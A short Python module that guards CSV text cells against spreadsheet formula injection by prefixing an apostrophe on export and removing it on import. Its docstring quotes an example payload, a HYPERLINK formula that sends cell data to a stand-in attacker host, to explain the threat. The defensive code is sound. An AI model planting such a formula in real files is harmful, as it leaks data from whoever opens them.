"""CSV text cells a spreadsheet won't run: the export side adds a guard, the import side strips it.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and
`\\t`/`\\r`, which some strip first) as a formula, so a feature name such as
`=HYPERLINK("http://evil.example/?"&A1,"x")`, chosen by any local process, would run on the
machine of whoever opens the export. The spreadsheets' own convention is a leading `'` (shown as
nothing, the rest kept as text). A text cell that already starts with `'` gets one too, so
stripping exactly one `'` on import gives back every string unchanged. Numeric columns are never
guarded: a negative amount is a number, not a formula.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_GUARD = "'"


def guard(text: str) -> str:
    """`text` safe for a spreadsheet cell (and reversible by `unguard`)."""
    return _GUARD + text if text.startswith((*FORMULA_STARTS, _GUARD)) else text


def unguard(text: str) -> str:
    """The text `guard` was given."""
    return text[1:] if text.startswith(_GUARD) else text
